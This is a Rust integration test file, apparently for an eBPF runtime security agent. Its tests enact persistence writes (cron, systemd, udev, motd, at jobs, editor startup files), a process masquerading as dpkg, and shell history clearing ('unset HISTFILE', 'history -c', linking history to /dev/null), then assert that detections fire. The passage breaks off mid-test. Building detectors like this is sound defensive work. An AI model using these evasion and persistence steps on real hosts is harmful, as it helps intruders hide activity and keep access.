//! Technique classes from behaviour (`detect/technique.rs`) against real behaviour on this
//! machine, and the attempts that count whether or not the kernel refused them: each test does
//! the thing (writes a cron file, truncates a shell history, vacuums the journal, switches ASLR
//! off, preloads a library from /dev/shm, runs a script from /dev/shm, spawns a shell from
//! python, PEEKUSERs a traced child, dumps another process's memory), takes the events the
//! sensors produced for that process tree, runs them through a detector and expects the
//! finding; a benign variant of the same activity expects none.
//!
//! Root only (eBPF). Persistence tests write uniquely named files into the real cron, systemd
//! and init directories and remove them; the ASLR test puts the setting back as it found it.

mod support;

use std::{
    collections::{BTreeMap, HashMap},
    io::Write as _,
    os::unix::{fs::PermissionsExt, process::CommandExt},
    path::{Path, PathBuf},
    process::{Command, Stdio},
    sync::LazyLock,
    time::{Duration, Instant},
};

use node_agent::{
    collector::{Collector, root_or_skip as privileged},
    detect::{Detector, KnownProcess, NoLookup, ProcessLookup},
    event::Event,
    sensitive::SensitivePaths,
    sensor::{HookState, SensorOptions},
};
use vigil_crds::finding::{Finding, SeverityLabel};

/// Generous: a busy machine can take long to hand events over.
const WAIT: Duration = Duration::from_secs(30);
const TRIGGER: &str = env!("CARGO_BIN_EXE_vigil-trigger");

static AGENT: LazyLock<Collector> = LazyLock::new(|| {
    Collector::start(SensorOptions {
        sensitive: SensitivePaths::default(),
        ..SensorOptions::default()
    })
    .expect("the sensor starts as root")
});

fn nonce() -> String {
    node_agent::collector::unique_name("vt")
}

/// A scratch directory outside the world-writable ones (programs run from /tmp are findings of
/// their own), removed when dropped.
struct Scratch(PathBuf);

impl Scratch {
    fn new(tag: &str) -> Self {
        let dir =
            Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("vigil-dt-{tag}-{}", nonce()));
        std::fs::create_dir_all(&dir).expect("scratch dir");
        Self(dir)
    }

    fn path(&self, name: &str) -> String {
        self.0.join(name).display().to_string()
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// Removes files and (empty) directories this test created, last first, when dropped.
#[derive(Default)]
struct Cleanup(Vec<PathBuf>);

impl Cleanup {
    fn file(&mut self, path: impl Into<PathBuf>) -> String {
        let path = path.into();
        let text = path.display().to_string();
        self.0.push(path);
        text
    }

    /// Creates the missing directories of `dir`, remembering them for removal.
    fn dirs(&mut self, dir: &Path) {
        let mut missing = Vec::new();
        let mut d = Some(dir);
        while let Some(p) = d
            && !p.exists()
        {
            missing.push(p.to_path_buf());
            d = p.parent();
        }
        std::fs::create_dir_all(dir).expect("create directories");
        // Outermost first in the list, so it is removed last.
        self.0.extend(missing.into_iter().rev());
    }
}

impl Drop for Cleanup {
    fn drop(&mut self) {
        for p in self.0.iter().rev() {
            if p.is_dir() && !p.is_symlink() {
                let _ = std::fs::remove_dir(p);
            } else {
                let _ = std::fs::remove_file(p);
            }
        }
    }
}

/// A case this machine cannot run (a tool missing): said so, and under CI (`CI` set, where
/// scripts/bootstrap.sh installs every tool) a failure rather than a skip.
fn not_tested(message: &str) {
    assert!(
        std::env::var_os("CI").is_none(),
        "{message} (scripts/bootstrap.sh installs it)"
    );
    eprintln!("{message}");
}

/// Runs a command to completion with `input` on its standard input; returns its pid.
fn run_with_input(cmd: &mut Command, input: &[u8]) -> u32 {
    LazyLock::force(&AGENT);
    let mut child = support::spawn::spawn(
        cmd.stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(Stdio::null()),
    )
    .expect("spawn");
    let pid = child.id();
    if let Some(mut stdin) = child.stdin.take() {
        let _ = stdin.write_all(input);
    }
    let _ = child.wait().expect("wait");
    pid
}

/// Runs a command to completion; returns its pid and standard output.
fn run_out(cmd: &mut Command) -> (u32, String) {
    LazyLock::force(&AGENT);
    let child = support::spawn::spawn(
        cmd.stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::null()),
    )
    .expect("spawn");
    let pid = child.id();
    let out = child.wait_with_output().expect("wait");
    (pid, String::from_utf8_lossy(&out.stdout).trim().to_owned())
}

fn run(cmd: &mut Command) -> u32 {
    run_out(cmd).0
}

fn sh(script: &str) -> u32 {
    run(Command::new("/bin/sh").args(["-c", script]))
}

fn detector() -> Detector {
    support::detection::builtin_detector()
}

fn tree_events(root: u32) -> Vec<Event> {
    AGENT
        .tree_events(root, WAIT)
        .unwrap_or_else(|| panic!("no exec and exit of {root} within {WAIT:?}"))
}

/// The findings of the process tree rooted at `root`, one per id.
fn detect(root: u32) -> Vec<Finding> {
    detect_after(detector(), root)
}

/// [`detect`] with a detector made before the process tree started (what it read of the host
/// at its start is from before the tree changed it).
fn detect_after(mut d: Detector, root: u32) -> Vec<Finding> {
    let mut by_id: BTreeMap<String, Finding> = BTreeMap::new();
    for event in tree_events(root) {
        for outcome in d.process(&event, &NoLookup) {
            by_id.insert(outcome.finding.id.clone(), outcome.finding);
        }
    }
    by_id.into_values().collect()
}

fn rule(f: &Finding) -> &str {
    f.context
        .additional
        .get("ruleId")
        .map(String::as_str)
        .unwrap_or("")
}

/// `(type, ruleId)` of each finding, sorted.
fn kinds(found: &[Finding]) -> Vec<(String, String)> {
    let mut k: Vec<_> = found
        .iter()
        .map(|f| (f.finding_type.clone(), rule(f).to_owned()))
        .collect();
    k.sort();
    k
}

/// The findings of one technique check (by its rule id).
fn of<'a>(found: &'a [Finding], rule_id: &str) -> Vec<&'a Finding> {
    found.iter().filter(|f| rule(f) == rule_id).collect()
}

fn pair(t: &str, r: &str) -> (String, String) {
    (t.to_owned(), r.to_owned())
}

#[test]
fn persistence_written_to_cron_systemd_and_init_locations() {
    if !privileged("persistence_written_to_cron_systemd_and_init_locations") {
        return;
    }
    let n = nonce();
    let mut clean = Cleanup::default();
    clean.dirs(Path::new("/var/spool/cron/crontabs"));
    clean.dirs(Path::new("/root/.config/systemd/user"));
    let cases = [
        (format!("/etc/cron.d/vigil-{n}"), "cron"),
        (format!("/var/spool/cron/crontabs/vigil-{n}"), "cron"),
        (format!("/etc/systemd/system/vigil-{n}.service"), "systemd"),
        (
            format!("/root/.config/systemd/user/vigil-{n}.service"),
            "systemd",
        ),
        (format!("/etc/init.d/vigil-{n}"), "init"),
    ];
    for (path, kind) in &cases {
        let path = clean.file(path);
        let pid = sh(&format!("echo '# vigil test' > {path}"));
        let found = detect(pid);
        // The shell's command line may match a command rule too (persistence-cron-write):
        // the same type, from the string.
        let mut types: Vec<&str> = found.iter().map(|f| f.finding_type.as_str()).collect();
        types.sort_unstable();
        types.dedup();
        assert_eq!(
            types,
            [
                "Persistence:Runtime/SensitiveFileModified",
                "Persistence:Runtime/SuspiciousCommand"
            ],
            "{path}: {:?}",
            kinds(&found)
        );
        let by_behaviour = of(&found, &format!("behaviour-persistence-{kind}"));
        assert_eq!(by_behaviour.len(), 1, "{path}: {:?}", kinds(&found));
        let f = by_behaviour[0];
        assert_eq!(f.severity_label, SeverityLabel::Medium);
        assert_eq!(f.context.file_path.as_deref(), Some(path.as_str()));
        assert_eq!(
            f.context
                .additional
                .get("persistenceKind")
                .map(String::as_str),
            Some(*kind)
        );
    }
    // Not a shell: cp into /etc/cron.d, and a file moved into place (the rename's destination).
    let scratch = Scratch::new("persist");
    let staged = scratch.path("job");
    std::fs::write(&staged, "# vigil test\n").expect("stage");
    let copied = clean.file(format!("/etc/cron.d/vigil-cp-{n}"));
    let pid = run(Command::new("cp").args([staged.as_str(), copied.as_str()]));
    assert_eq!(
        of(&detect(pid), "behaviour-persistence-cron").len(),
        1,
        "cp"
    );
    let moved = clean.file(format!("/etc/cron.d/vigil-mv-{n}"));
    let pid = run(Command::new("mv").args([staged.as_str(), moved.as_str()]));
    let found = detect(pid);
    let f = of(&found, "behaviour-persistence-cron");
    assert_eq!(f.len(), 1, "mv: {:?}", kinds(&found));
    assert_eq!(f[0].context.file_path.as_deref(), Some(moved.as_str()));
    // Benign: reading them, and moving a file out of a location.
    let pid = sh(&format!("cat /etc/cron.d/vigil-{n} {moved} >/dev/null"));
    assert!(detect(pid).is_empty(), "reads");
    let out = scratch.path("out");
    let pid = run(Command::new("mv").args([moved.as_str(), out.as_str()]));
    assert!(
        of(&detect(pid), "behaviour-persistence-cron").is_empty(),
        "moved out"
    );
}

/// systemctl's own links: `systemctl link FILE` (and `enable` of a path) installs a unit file
/// from anywhere as a unit, which is persistence whoever runs it; `systemctl mask` links a unit
/// to `/dev/null`, which is systemctl's ordinary work.
#[test]
fn a_unit_file_from_outside_systemds_directories_linked_in_by_systemctl() {
    if !privileged("a_unit_file_from_outside_systemds_directories_linked_in_by_systemctl") {
        return;
    }
    if !Path::new("/usr/bin/systemctl").exists() && !Path::new("/bin/systemctl").exists() {
        not_tested("systemctl is not installed: systemctl link NOT TESTED");
        return;
    }
    let n = nonce();
    let mut clean = Cleanup::default();
    let scratch = Scratch::new("unit-link");
    let unit = scratch.path(&format!("vigil-{n}.service"));
    std::fs::write(&unit, "[Service]\nExecStart=/bin/true\n").expect("unit");
    let linked = clean.file(format!("/etc/systemd/system/vigil-{n}.service"));
    let pid = run(Command::new("systemctl").args(["link", unit.as_str()]));
    let found = detect(pid);
    expect_persistence(
        &found,
        "behaviour-persistence-systemd",
        "systemd",
        &linked,
        "systemctl link",
    );
    let f = of(&found, "behaviour-persistence-systemd");
    assert_eq!(
        f[0].context
            .additional
            .get("linkTarget")
            .map(String::as_str),
        Some(unit.as_str())
    );
    // Benign: a unit masked (a link to /dev/null).
    let masked = clean.file(format!("/etc/systemd/system/vigil-mask-{n}.service"));
    let pid = run(Command::new("systemctl").args(["mask", &format!("vigil-mask-{n}.service")]));
    assert!(
        Path::new(&masked).is_symlink(),
        "systemctl mask made no link at {masked}"
    );
    let found = detect(pid);
    assert!(found.is_empty(), "mask: {:?}", kinds(&found));
}

/// Puts a file back as it was (or removes it, if it did not exist) when dropped: for the
/// single files (`/etc/environment`, `/etc/modules`) the persistence tests append a comment to.
struct RestoreFile {
    path: PathBuf,
    before: Option<Vec<u8>>,
}

impl RestoreFile {
    fn new(path: &str) -> Self {
        Self {
            path: PathBuf::from(path),
            before: std::fs::read(path).ok(),
        }
    }
}

impl Drop for RestoreFile {
    fn drop(&mut self) {
        let _ = match &self.before {
            Some(bytes) => std::fs::write(&self.path, bytes),
            None => std::fs::remove_file(&self.path),
        };
    }
}

/// The one behaviour-persistence finding of `found` with `rule`, of `kind`, on `path`.
fn expect_persistence(found: &[Finding], rule: &str, kind: &str, path: &str, how: &str) {
    let f = of(found, rule);
    assert_eq!(f.len(), 1, "{how} {path}: {:?}", kinds(found));
    assert_eq!(f[0].finding_type, "Persistence:Runtime/SuspiciousCommand");
    assert_eq!(f[0].severity_label, SeverityLabel::Medium);
    assert_eq!(f[0].context.file_path.as_deref(), Some(path), "{how}");
    assert_eq!(
        f[0].context
            .additional
            .get("persistenceKind")
            .map(String::as_str),
        Some(kind),
        "{how} {path}"
    );
}

#[test]
fn generators_autostart_udev_motd_modules_and_login_environment_written_as_persistence() {
    if !privileged(
        "generators_autostart_udev_motd_modules_and_login_environment_written_as_persistence",
    ) {
        return;
    }
    let n = nonce();
    let mut clean = Cleanup::default();
    for dir in [
        "/usr/local/lib/systemd/system",
        "/etc/systemd/system-generators",
        "/usr/lib/systemd/system-generators",
        "/etc/xdg/autostart",
        "/root/.config/autostart",
        "/etc/udev/rules.d",
        "/usr/lib/udev/rules.d",
        "/etc/update-motd.d",
        "/etc/modules-load.d",
        "/etc/zsh",
        "/var/spool/cron/atjobs",
    ] {
        clean.dirs(Path::new(dir));
    }
    // The single files get a comment appended and are put back as they were.
    let _environment = RestoreFile::new("/etc/environment");
    let _modules = RestoreFile::new("/etc/modules");
    let scratch = Scratch::new("autostart");
    let staged = scratch.path("staged");
    std::fs::write(&staged, "# vigil test\n").expect("stage");
    // (path, kind, how): a shell redirection, tee, cp.
    let cases = [
        (
            format!("/usr/local/lib/systemd/system/vigil-{n}.service"),
            "systemd",
            "sh",
        ),
        (
            format!("/etc/systemd/system-generators/vigil-{n}"),
            "systemd",
            "sh",
        ),
        (
            format!("/usr/lib/systemd/system-generators/vigil-{n}"),
            "systemd",
            "cp",
        ),
        (
            format!("/etc/xdg/autostart/vigil-{n}.desktop"),
            "autostart",
            "sh",
        ),
        (
            format!("/root/.config/autostart/vigil-{n}.desktop"),
            "autostart",
            "tee",
        ),
        (
            format!("/etc/udev/rules.d/99-vigil-{n}.rules"),
            "udev",
            "tee",
        ),
        (
            format!("/usr/lib/udev/rules.d/99-vigil-{n}.rules"),
            "udev",
            "cp",
        ),
        (format!("/etc/update-motd.d/99-vigil-{n}"), "motd", "sh"),
        (
            format!("/etc/modules-load.d/vigil-{n}.conf"),
            "modules",
            "sh",
        ),
        ("/etc/modules".to_owned(), "modules", "sh"),
        ("/etc/environment".to_owned(), "environment", "sh"),
        (format!("/etc/zsh/vigil-{n}"), "shell", "tee"),
        (format!("/var/spool/cron/atjobs/vigil-{n}"), "at", "sh"),
    ];
    for (path, kind, how) in &cases {
        if !matches!(path.as_str(), "/etc/modules" | "/etc/environment") {
            clean.file(path);
        }
        let pid = match *how {
            "sh" => sh(&format!("echo '# vigil test' >> {path}")),
            "tee" => run_with_input(
                Command::new("tee").args(["-a", path.as_str()]),
                b"# vigil test\n",
            ),
            _ => run(Command::new("cp").args([staged.as_str(), path.as_str()])),
        };
        let found = detect(pid);
        let rule = match *kind {
            "shell" => "behaviour-persistence-shell-startup".to_owned(),
            k => format!("behaviour-persistence-{k}"),
        };
        expect_persistence(&found, &rule, kind, path, how);
        // The file-level finding of the sensitive-path set comes with it.
        assert!(
            found
                .iter()
                .any(|f| f.finding_type == "Persistence:Runtime/SensitiveFileModified"),
            "{how} {path}: {:?}",
            kinds(&found)
        );
    }
    // Moved into place, then made executable (a motd script must be, to run).
    let moved = clean.file(format!("/etc/update-motd.d/98-vigil-mv-{n}"));
    let pid = run(Command::new("mv").args([staged.as_str(), moved.as_str()]));
    expect_persistence(
        &detect(pid),
        "behaviour-persistence-motd",
        "motd",
        &moved,
        "mv",
    );
    let pid = run(Command::new("chmod").args(["+x", moved.as_str()]));
    expect_persistence(
        &detect(pid),
        "behaviour-persistence-motd",
        "motd",
        &moved,
        "chmod +x",
    );
    // Benign: reading them.
    let all: Vec<&str> = cases.iter().map(|(p, _, _)| p.as_str()).collect();
    let pid = sh(&format!("cat {} {moved} >/dev/null", all.join(" ")));
    let found = detect(pid);
    assert!(found.is_empty(), "reads: {:?}", kinds(&found));
}

/// Metasploit's `vim_plugin` and `emacs_extension` persistence as a shell session writes them
/// (`printf` with octal escapes, `>` then `>>`): a plugin in `~/.vim/plugin/`, a `require`
/// appended to `~/.emacs.d/init.el`, a line appended to `~/.vimrc`. A file named `init.lua`
/// in another directory and reading the files raise nothing.
#[test]
fn editor_plugins_and_start_up_files_written_as_persistence() {
    if !privileged("editor_plugins_and_start_up_files_written_as_persistence") {
        return;
    }
    let n = nonce();
    let mut clean = Cleanup::default();
    clean.dirs(Path::new("/root/.vim/plugin"));
    clean.dirs(Path::new("/root/.emacs.d"));
    let _vimrc = RestoreFile::new("/root/.vimrc");
    let plugin = clean.file(format!("/root/.vim/plugin/vigil-{n}.vim"));
    let init_el = "/root/.emacs.d/init.el";
    let _init_el = RestoreFile::new(init_el);
    for (path, redirect) in [
        (plugin.as_str(), ">"),
        (init_el, ">>"),
        ("/root/.vimrc", ">>"),
    ] {
        // `" vigil` and `; vigil`: a comment to either editor.
        let pid = sh(&format!(
            "printf '\\042 \\166\\151\\147\\151\\154\\n' {redirect} '{path}'"
        ));
        expect_persistence(
            &detect(pid),
            "behaviour-persistence-editor-startup",
            "editor",
            path,
            redirect,
        );
    }
    let scratch = Scratch::new("editor");
    let other = scratch.path("init.lua");
    let pid = sh(&format!(
        "printf -- '-- vigil\\n' > '{other}'; cat {plugin} {init_el} /root/.vimrc >/dev/null"
    ));
    let found = detect(pid);
    assert!(
        found.is_empty(),
        "init.lua elsewhere, reads: {:?}",
        kinds(&found)
    );
}

/// The processes of a tree as the agent's process table knows them once the tree has run: by
/// their execs, and still after they exited.
struct ExecTable(HashMap<u32, KnownProcess>);

impl ProcessLookup for ExecTable {
    fn get(&self, pid: u32) -> Option<KnownProcess> {
        self.0.get(&pid).cloned()
    }
}

/// [`detect`] with the agent's process table as the lookup, as in the agent: fanotify reports
/// some changes (`at`'s `fchmod` of its job) after the process that made them exited, when
/// the detector has forgotten it; the agent then names it from its table, which keeps exited
/// processes for a while.
fn detect_as_the_agent(root: u32) -> Vec<Finding> {
    let events = tree_events(root);
    let table = ExecTable(
        events
            .iter()
            .filter_map(|e| match e {
                Event::Exec(x) => Some((
                    x.process.pid,
                    KnownProcess {
                        pid: x.process.pid,
                        ppid: x.process.ppid,
                        start_time_ns: x.process.start_time_ns,
                        comm: x.process.comm.clone(),
                        exe: Some(x.exe.clone()),
                        sha256: None,
                        cwd: x.cwd.clone(),
                        uid: x.process.uid,
                        euid: x.process.euid,
                    },
                )),
                _ => None,
            })
            .collect(),
    );
    let mut d = detector();
    let mut by_id: BTreeMap<String, Finding> = BTreeMap::new();
    for event in events {
        for outcome in d.process(&event, &table) {
            by_id.insert(outcome.finding.id.clone(), outcome.finding);
        }
    }
    by_id.into_values().collect()
}

/// Removes the at jobs a test queued (by number), when dropped.
#[derive(Default)]
struct RemoveAtJobs(Vec<String>);

impl Drop for RemoveAtJobs {
    fn drop(&mut self) {
        if !self.0.is_empty() {
            let _ = Command::new("atrm")
                .args(&self.0)
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .status();
        }
    }
}

/// Runs an at command with `input` on its standard input; returns its pid and the job number
/// it reported ("job 7 at Sat Dec  5 12:00:00 2026" on standard error), if any.
fn at(cmd: &mut Command, input: &[u8]) -> (u32, Option<String>) {
    LazyLock::force(&AGENT);
    let mut child = support::spawn::spawn(
        cmd.stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(Stdio::piped()),
    )
    .expect("spawn at");
    let pid = child.id();
    if let Some(mut stdin) = child.stdin.take() {
        let _ = stdin.write_all(input);
    }
    let out = child.wait_with_output().expect("wait");
    let err = String::from_utf8_lossy(&out.stderr);
    let job = err
        .lines()
        .find_map(|l| l.strip_prefix("job "))
        .and_then(|rest| rest.split_whitespace().next())
        .map(str::to_owned);
    (pid, job)
}

#[test]
fn at_and_batch_jobs_queued_as_persistence() {
    if !privileged("at_and_batch_jobs_queued_as_persistence") {
        return;
    }
    if !Path::new("/usr/bin/at").exists() {
        let message = "at_and_batch_jobs_queued_as_persistence: NOT TESTED: no /usr/bin/at \
                       (scripts/bootstrap.sh installs the at package)";
        assert!(std::env::var_os("CI").is_none(), "{message}");
        eprintln!("{message}");
        return;
    }
    let mut jobs = RemoveAtJobs::default();
    let dir = Scratch::new("at");
    let script = dir.path("job");
    std::fs::write(&script, "# vigil test\n").expect("job file");
    let queued = |pid: u32, how: &str| {
        let found = detect_as_the_agent(pid);
        let f = of(&found, "behaviour-persistence-at");
        assert_eq!(f.len(), 1, "{how}: {:?}", kinds(&found));
        assert_eq!(f[0].finding_type, "Persistence:Runtime/SuspiciousCommand");
        assert_eq!(f[0].severity_label, SeverityLabel::Medium);
        assert_eq!(
            f[0].context
                .additional
                .get("persistenceKind")
                .map(String::as_str),
            Some("at")
        );
        // at writing its own spool is its job: only the exec's finding.
        assert_eq!(
            kinds(&found),
            [pair(
                "Persistence:Runtime/SuspiciousCommand",
                "behaviour-persistence-at"
            )],
            "{how}"
        );
    };
    // A year from now: atd, where it runs, leaves the jobs alone until they are removed.
    let (pid, job) = at(
        Command::new("at").args(["now", "+", "1", "year"]),
        b"# vigil test\n",
    );
    assert!(job.is_some(), "at queued no job");
    jobs.0.extend(job);
    queued(pid, "at from standard input");
    let (pid, job) = at(
        Command::new("at").args(["-f", script.as_str(), "now", "+", "1", "year"]),
        b"",
    );
    jobs.0.extend(job);
    queued(pid, "at -f");
    if Path::new("/usr/bin/batch").exists() {
        // Debian's batch is a script that runs `at -qb now`: the job (a comment) runs when the
        // load allows, where atd runs.
        let (pid, job) = at(&mut Command::new("batch"), b"# vigil test\n");
        jobs.0.extend(job);
        queued(pid, "batch");
    }
    // Listing, printing and removing queue nothing.
    let first = jobs.0[0].clone();
    for argv in [
        vec!["atq"],
        vec!["at", "-l"],
        vec!["at", "-c", first.as_str()],
    ] {
        let pid = run(Command::new(argv[0]).args(&argv[1..]));
        let found = detect(pid);
        assert!(found.is_empty(), "{argv:?}: {:?}", kinds(&found));
    }
    let pid = run(Command::new("atrm").args(&jobs.0));
    let found = detect_as_the_agent(pid);
    assert!(found.is_empty(), "atrm: {:?}", kinds(&found));
}

/// Builds a package whose files and maintainer script write persistence locations.
fn package(dir: &Scratch, name: &str, cron: &str, unit: &str, extra: &[(&str, u32)]) -> String {
    let root = dir.0.join("pkg");
    std::fs::create_dir_all(root.join("DEBIAN")).expect("DEBIAN");
    std::fs::create_dir_all(root.join("etc/cron.d")).expect("cron.d");
    std::fs::write(
        root.join("DEBIAN/control"),
        format!(
            "Package: {name}\nVersion: 1.0\nArchitecture: all\nMaintainer: Vigil tests <t@example.invalid>\nDescription: Vigil test package\n"
        ),
    )
    .expect("control");
    let postinst = root.join("DEBIAN/postinst");
    std::fs::write(
        &postinst,
        format!("#!/bin/sh\nset -e\necho '[Unit]' > {unit}\n"),
    )
    .expect("postinst");
    let postrm = root.join("DEBIAN/postrm");
    std::fs::write(&postrm, format!("#!/bin/sh\nrm -f {unit}\n")).expect("postrm");
    for script in [&postinst, &postrm] {
        std::fs::set_permissions(script, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    }
    let cron_path = root.join(cron.trim_start_matches('/'));
    std::fs::write(&cron_path, "# vigil test package\n").expect("cron file");
    // A udev rule and a motd script, as packages install them (the script executable).
    for (file, mode) in extra {
        let path = root.join(file.trim_start_matches('/'));
        std::fs::create_dir_all(path.parent().expect("parent")).expect("package directory");
        std::fs::write(&path, "# vigil test package\n").expect("package file");
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(*mode)).expect("mode");
    }
    let deb = dir.path(&format!("{name}.deb"));
    let built = Command::new("dpkg-deb")
        .args(["--build", "--root-owner-group"])
        .arg(&root)
        .arg(&deb)
        .stdout(Stdio::null())
        .status()
        .expect("dpkg-deb");
    assert!(built.success(), "dpkg-deb --build");
    deb
}

/// Runs dpkg, waiting out another dpkg holding its lock (other tests install packages too).
fn dpkg(args: &[&str]) -> u32 {
    let deadline = Instant::now() + Duration::from_secs(120);
    loop {
        LazyLock::force(&AGENT);
        let child = Command::new("dpkg")
            .args(args)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .expect("dpkg");
        let pid = child.id();
        let out = child.wait_with_output().expect("wait");
        let err = String::from_utf8_lossy(&out.stderr);
        if out.status.success() {
            return pid;
        }
        assert!(
            err.contains("lock") && Instant::now() < deadline,
            "dpkg {args:?}: {err}"
        );
        std::thread::sleep(Duration::from_secs(1));
    }
}

#[test]
fn a_package_manager_and_its_scripts_install_persistence_quietly() {
    if !privileged("a_package_manager_and_its_scripts_install_persistence_quietly") {
        return;
    }
    if !Path::new("/usr/bin/dpkg").exists() {
        eprintln!("NOT TESTED package manager: no /usr/bin/dpkg");
        return;
    }
    let n = nonce();
    let name = format!("vigil-test-{}", n.to_ascii_lowercase().replace('x', "-"));
    let cron = format!("/etc/cron.d/vigil-pkg-{n}");
    let unit = format!("/etc/systemd/system/vigil-pkg-{n}.service");
    let udev = format!("/usr/lib/udev/rules.d/99-vigil-pkg-{n}.rules");
    let motd = format!("/etc/update-motd.d/99-vigil-pkg-{n}");
    let mut clean = Cleanup::default();
    clean.file(&cron);
    clean.file(&unit);
    clean.file(&udev);
    clean.file(&motd);
    let dir = Scratch::new("pkg");
    let deb = package(
        &dir,
        &name,
        &cron,
        &unit,
        &[(udev.as_str(), 0o644), (motd.as_str(), 0o755)],
    );
    let pid = dpkg(&["-i", &deb]);
    let installed = detect(pid);
    let _purge = UndoOnDrop::new("dpkg", &["--purge", &name]);
    assert!(Path::new(&cron).exists() && Path::new(&unit).exists());
    let persistence: Vec<_> = installed
        .iter()
        .filter(|f| f.finding_type == "Persistence:Runtime/SuspiciousCommand")
        .map(|f| f.context.file_path.clone())
        .collect();
    assert!(
        persistence.is_empty(),
        "dpkg and its postinst: {persistence:?}"
    );
    // dpkg itself unpacks the cron file, the udev rule and the motd script: a trusted writer,
    // by its executable.
    assert!(Path::new(&udev).exists() && Path::new(&motd).exists());
    let on_unpacked: Vec<_> = installed
        .iter()
        .filter(|f| {
            [&cron, &udev, &motd]
                .iter()
                .any(|p| f.context.file_path.as_deref() == Some(p.as_str()))
                && f.severity_label >= SeverityLabel::Medium
        })
        .map(|f| (f.finding_type.clone(), f.context.file_path.clone()))
        .collect();
    assert!(
        on_unpacked.is_empty(),
        "dpkg writing its cron file, udev rule and motd script: {on_unpacked:?}"
    );
    let pid = dpkg(&["--purge", &name]);
    assert!(
        detect(pid)
            .iter()
            .all(|f| f.finding_type != "Persistence:Runtime/SuspiciousCommand")
    );
}

#[test]
fn a_process_that_names_itself_dpkg_is_not_dpkg() {
    if !privileged("a_process_that_names_itself_dpkg_is_not_dpkg") {
        return;
    }
    let n = nonce();
    let mut clean = Cleanup::default();
    let cron = clean.file(format!("/etc/cron.d/vigil-comm-{n}"));
    // The shell renames itself (its comm) dpkg, then writes the cron file itself.
    let pid = sh(&format!(
        "printf dpkg > /proc/self/comm; echo '# vigil test' > {cron}"
    ));
    let found = detect(pid);
    let on_cron: Vec<_> = found
        .iter()
        .filter(|f| f.context.file_path.as_deref() == Some(cron.as_str()))
        .collect();
    assert_eq!(
        kinds(&on_cron.iter().map(|f| (*f).clone()).collect::<Vec<_>>()),
        [
            (
                "Persistence:Runtime/SensitiveFileModified".to_owned(),
                String::new()
            ),
            (
                "Persistence:Runtime/SuspiciousCommand".to_owned(),
                "behaviour-persistence-cron".to_owned()
            ),
        ],
        "{:?}",
        kinds(&found)
    );
}

/// Undoes what a test did to the machine (a package installed, an account created) when
/// dropped, also when the test stops half-way: runs `program` with `args`, quietly.
struct UndoOnDrop {
    program: &'static str,
    args: Vec<String>,
}

impl UndoOnDrop {
    fn new(program: &'static str, args: &[&str]) -> Self {
        Self {
            program,
            args: args.iter().map(|a| (*a).to_owned()).collect(),
        }
    }
}

impl Drop for UndoOnDrop {
    /// Runs the undo and waits until the agent has taken in its exit: the agent reads a changed
    /// file back when it takes the change in, so an undo it had not yet taken in when the next
    /// step ran would be judged with the next step's file (`userdel` of one account read back
    /// with the uid-0 line `useradd -o` added after it) and the next step would raise nothing.
    fn drop(&mut self) {
        let undo = Command::new(self.program)
            .args(&self.args)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn();
        if let Ok(mut child) = undo {
            let _ = child.wait();
            let _ = AGENT.tree_events(child.id(), WAIT);
        }
    }
}

#[test]
fn shell_history_removed_truncated_or_replaced() {
    if !privileged("shell_history_removed_truncated_or_replaced") {
        return;
    }
    let home = Scratch::new("home");
    let history = home.path(".bash_history");
    let fresh = || std::fs::write(&history, "ls\ncat /etc/passwd\n").expect("history");
    let tampered = |pid: u32, how: &str| {
        let found = detect(pid);
        let f = of(&found, "behaviour-history-tampered");
        assert_eq!(f.len(), 1, "{how}: {:?}", kinds(&found));
        assert_eq!(
            f[0].finding_type,
            "DefenseEvasion:Runtime/SuspiciousCommand"
        );
        assert_eq!(f[0].context.file_path.as_deref(), Some(history.as_str()));
        assert_eq!(
            f[0].context.additional.get("tampering").map(String::as_str),
            Some(how)
        );
    };
    fresh();
    tampered(sh(&format!(": > {history}")), "truncated");
    fresh();
    tampered(
        run(Command::new("truncate").args(["-s", "0", &history])),
        "overwritten",
    );
    fresh();
    tampered(run(Command::new("rm").args(["-f", &history])), "removed");
    fresh();
    tampered(
        run(Command::new("ln").args(["-sf", "/dev/null", &history])),
        "replaced",
    );
    let _ = std::fs::remove_file(&history);

    // An interactive bash writing its own history: appended, then, past HISTFILESIZE, rewritten
    // through a temporary file renamed over it. Started by su, as a login would.
    fresh();
    for size in ["500", "1"] {
        let script = format!(
            "HISTFILE={history} HISTFILESIZE={size} bash -i >/dev/null 2>&1 <<'EOF'\necho hi\nEOF"
        );
        let pid = run(Command::new("su").args(["root", "-s", "/bin/sh", "-c", &script]));
        let found = detect(pid);
        assert!(
            of(&found, "behaviour-history-tampered").is_empty(),
            "bash writing its history (HISTFILESIZE={size}): {:?}",
            kinds(&found)
        );
    }
    assert!(
        std::fs::read_to_string(&history).is_ok_and(|h| h.contains("echo hi")),
        "bash wrote its history"
    );
}

/// History switched off by shell builtins as lines of a script file (Atomic Red Team's
/// "Clear history of a bunch of shells" and "Clear and Disable Bash History Logging" run as a
/// script): `unset HISTFILE`, `export HISTFILESIZE=0`, `set +o history`, `history -c` exec
/// nothing, so the script's text, read at the shell's exec, is where they show:
/// `evasion-clear-history` with the line. A script that sets a large history or only mentions
/// the variable in a comment raises nothing.
#[test]
fn history_switched_off_by_builtins_in_a_script() {
    if !privileged("history_switched_off_by_builtins_in_a_script") {
        return;
    }
    let dir = Scratch::new("histscript");
    let script = |shell: &str, name: &str, body: &str| {
        let path = dir.path(name);
        std::fs::write(&path, body).expect("script");
        (path.clone(), detect(run(Command::new(shell).arg(&path))))
    };
    for (shell, name, body, line) in [
        (
            "/bin/bash",
            "bunch.sh",
            "#!/bin/bash\nunset HISTFILE\nexport HISTFILESIZE=0\nhistory -c\nid >/dev/null\n",
            "unset HISTFILE",
        ),
        (
            "/bin/bash",
            "disable.sh",
            "echo start\n  set +o history\nhistory -c\n",
            "set +o history",
        ),
        ("/bin/sh", "dash.sh", "HISTSIZE=0\ntrue\n", "HISTSIZE=0"),
    ] {
        let (path, found) = script(shell, name, body);
